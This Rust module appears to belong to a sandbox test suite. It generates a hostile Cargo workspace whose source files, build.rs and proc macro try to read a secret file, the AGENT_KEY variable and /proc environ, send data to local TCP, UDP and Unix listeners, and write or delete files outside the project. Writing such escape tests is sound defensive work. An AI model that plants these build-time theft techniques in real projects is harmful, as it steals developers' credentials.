//! A repository whose code makes the compiler, build scripts and macros read and do what they must not.

use std::collections::BTreeSet;
use std::fs;
use std::path::{Path, PathBuf};

use super::outside::{MARKER, Outside};

/// Attempts by the source alone: each is a binary of its own, which is only made when the attempt succeeds, and holds the
/// secret then. `{secret}` is the path of a secret file; `{code}` one whose secret is Rust code.
const SOURCES: [(&str, &str); 9] = [
    ("include-str", "fn main() { println!(\"{}\", include_str!(\"{secret}\")); }"),
    ("include-bytes", "fn main() { println!(\"{:?}\", std::hint::black_box(include_bytes!(\"{secret}\"))); }"),
    ("include", "fn main() { println!(\"{}\", include!(\"{expression}\")); }"),
    (
        "include-relative",
        "fn main() { println!(\"{}\", include_str!(\"../../../../../../../../../../../..{secret}\")); }",
    ),
    ("path-attribute", "#[path = \"{code}\"] mod stolen; fn main() { println!(\"{}\", stolen::KEY); }"),
    (
        "doc-attribute",
        "#[doc = include_str!(\"{secret}\")] pub fn stolen() {} fn main() { println!(\"{}\", include_str!(\"{secret}\")); }",
    ),
    ("environment", "fn main() { println!(\"{}\", env!(\"AGENT_KEY\")); }"),
    (
        "assembler",
        "std::arch::global_asm!(\".section .rodata\", \".globl stolen\", \"stolen: .incbin \\\"{secret}\\\"\"); \
                   unsafe extern \"C\" { static stolen: u8; } fn main() { println!(\"{}\", unsafe { stolen }); }",
    ),
    ("macro", "thief::steal!(); fn main() { println!(\"{STOLEN}\"); }"),
];

/// Attempts of the build script and of the macro, which run whatever they like: what they got is printed.
const THIEF: &str = r#"
use std::io::Write as _;
pub fn steal() -> String {
    let mut stolen = String::new();
    stolen += &std::fs::read_to_string("{secret}").unwrap_or_default();
    stolen += &std::env::var("AGENT_KEY").unwrap_or_default();
    stolen += &std::fs::read_to_string("/proc/{victim}/environ").unwrap_or_default();
    let word = |what: &str| format!("{what}-{}", option_env!("CARGO_PKG_NAME").unwrap_or("unnamed"));
    let _held = std::net::TcpStream::connect(("127.0.0.1", {tcp})).and_then(|mut s| s.write_all(word("tcp").as_bytes()));
    let _held = std::os::unix::net::UnixStream::connect("{unix}").and_then(|mut s| s.write_all(word("unix").as_bytes()));
    let _held = std::net::UdpSocket::bind("0.0.0.0:0").and_then(|s| s.send_to(word("udp").as_bytes(), ("127.0.0.1", {udp})));
    for path in ["{write}", "{source}/written-by-the-build"] {
        let _held = std::fs::OpenOptions::new().create(true).append(true).open(path).and_then(|mut f| f.write_all(b"x"));
    }
    let _held = std::fs::remove_file("{delete}");
    stolen.replace(['\n', '\0', '"', '\\'], " ")
}
"#;

/// What must be made, or nothing was tried at all.
pub const HONEST: &str = "honest";

/// Writes the repository into `source`. Returns the names of all attempts by source alone.
pub fn write(outside: &Outside, source: &Path) -> Vec<&'static str> {
    let secret = outside.told("home");
    let beside = |name: &str| Path::new(secret).with_file_name(name).display().to_string();
    fs::write(beside("code.rs"), format!("pub const KEY: &str = \"{MARKER}\";\n")).unwrap();
    fs::write(beside("expression.rs"), format!("\"{MARKER}\"\n")).unwrap();
    let fill = |text: &str| {
        let mut text = text.to_owned();
        for (name, value) in [
            ("{secret}", secret),
            ("{code}", &beside("code.rs")),
            ("{expression}", &beside("expression.rs")),
            ("{write}", &beside("write-me")),
            ("{delete}", &beside("delete-me")),
            ("{source}", &source.display().to_string()),
            ("{victim}", outside.told("victim")),
            ("{tcp}", outside.told("tcp")),
            ("{udp}", outside.told("udp")),
            ("{unix}", outside.told("unix")),
        ] {
            text = text.replace(name, value);
        }
        text
    };
    let put = |path: &str, text: &str| {
        let path = source.join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, fill(text)).unwrap();
    };
    put(
        "Cargo.toml",
        "[workspace]\nresolver = \"3\"\nmembers = [\"trainer\", \"thief\"]\n\n[profile.dev]\ndebug = false\n",
    );
    put(
        "Cargo.lock",
        "version = 4\n\n[[package]]\nname = \"thief\"\nversion = \"0.1.0\"\n\n[[package]]\nname = \"trainer\"\nversion = \"0.1.0\"\n\
         dependencies = [\n \"thief\",\n]\n",
    );
    put(
        "thief/Cargo.toml",
        "[package]\nname = \"thief\"\nversion = \"0.1.0\"\nedition = \"2024\"\n\n[lib]\nproc-macro = true\n",
    );
    put(
        "thief/src/lib.rs",
        "mod theft { include!(\"../../theft.rs\"); }\n#[proc_macro]\npub fn steal(_: proc_macro::TokenStream) -> \
         proc_macro::TokenStream {\n    format!(\"const STOLEN: &str = \\\"{}\\\";\", theft::steal()).parse().unwrap()\n}\n",
    );
    put("theft.rs", THIEF);
    put(
        "trainer/Cargo.toml",
        "[package]\nname = \"trainer\"\nversion = \"0.1.0\"\nedition = \"2024\"\nbuild = \"build.rs\"\n\n[dependencies]\nthief = { path = \"../thief\" }\n",
    );
    put(
        "trainer/build.rs",
        "mod theft { include!(\"../theft.rs\"); }\nfn main() { println!(\"cargo:rustc-env=STOLEN={}\", theft::steal()); }\n",
    );
    put("trainer/src/bin/honest.rs", "fn main() { println!(\"{}\", include_str!(\"../../Cargo.toml\")); }\n");
    put("trainer/src/bin/build-script.rs", "fn main() { println!(\"{}\", env!(\"STOLEN\")); }\n");
    for (name, text) in SOURCES {
        put(&format!("trainer/src/bin/{name}.rs"), text);
    }
    SOURCES.iter().map(|(name, _)| *name).chain(["build-script"]).collect()
}

/// Names of the executables in a target folder, and of those files anywhere below it that hold the secret.
pub fn made(target: &Path) -> (BTreeSet<String>, Vec<PathBuf>) {
    let names = fs::read_dir(target.join("debug")).into_iter().flatten().flatten();
    let names = names.filter(|entry| entry.path().is_file() && !entry.file_name().to_string_lossy().contains('.'));
    let names = names.filter_map(|entry| entry.file_name().into_string().ok()).collect();
    let mut holding = Vec::new();
    let mut folders = vec![target.to_owned()];
    while let Some(folder) = folders.pop() {
        for entry in fs::read_dir(folder).into_iter().flatten().flatten() {
            let path = entry.path();
            if entry.file_type().unwrap().is_dir() {
                folders.push(path);
            } else if let Ok(bytes) = fs::read(&path)
                && bytes.windows(MARKER.len()).any(|window| window == MARKER.as_bytes())
            {
                holding.push(path);
            }
        }
    }
    (names, holding)
}
